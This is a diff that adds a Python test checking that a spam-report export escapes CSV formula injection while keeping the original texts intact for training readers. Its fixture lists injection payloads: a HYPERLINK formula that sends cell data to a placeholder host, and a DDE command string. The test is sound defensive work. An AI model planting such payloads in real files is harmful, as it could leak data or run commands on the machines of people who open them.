@@ -126,6 +126,28 @@ def test_export_is_read_back_by_ml_train_readers(tmp_path):
     assert len(rows) == 5
 
 
+def test_export_defuses_spreadsheet_formulas_and_training_reads_the_texts_as_sent(tmp_path):
+    """A reported text is the sender's: one beginning with =, +, -, @ must not run in the analyst's
+    spreadsheet (CSV injection); the training readers give it back unchanged."""
+    import csv
+    import io
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+84912000001 goi ngay nhan qua", "-50% hom nay",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "''-two quotes", "'plain apostrophe", HOME]
+    _store(tmp_path, evil)
+    ws = Workspace(tmp_path)
+    ws.label([r.id for r in ws.reports], "spam")
+    rows, _ = labelled_rows(ws.reports)
+    for fmt, name in (("tsv", "x.tsv"), ("csv", "x.csv")):
+        text = render(rows, fmt)
+        (tmp_path / name).write_text(text, encoding="utf-8")
+        cells = ([r["text"] for r in csv.DictReader(io.StringIO(text))] if fmt == "csv"
+                 else [ln.split("\t")[-1] for ln in text.splitlines()[1:]])
+        assert sorted(cells) == sorted(["'" + t if t[0] in "=+-@" or t[:2] in ("'=", "''") else t for t in evil])
+        assert not [c for c in cells if c[0] in "=+-@"], fmt
+        ds = read_dataset(tmp_path / name)
+        assert ds.errors == [] and sorted(ds.texts) == sorted(evil), fmt
+
+
 def test_reports_cli_errors(tmp_path):
     r = _cli("reports", "list", "--data-dir", tmp_path / "none")
     assert r.returncode == 2 and "no report store" in r.stderr
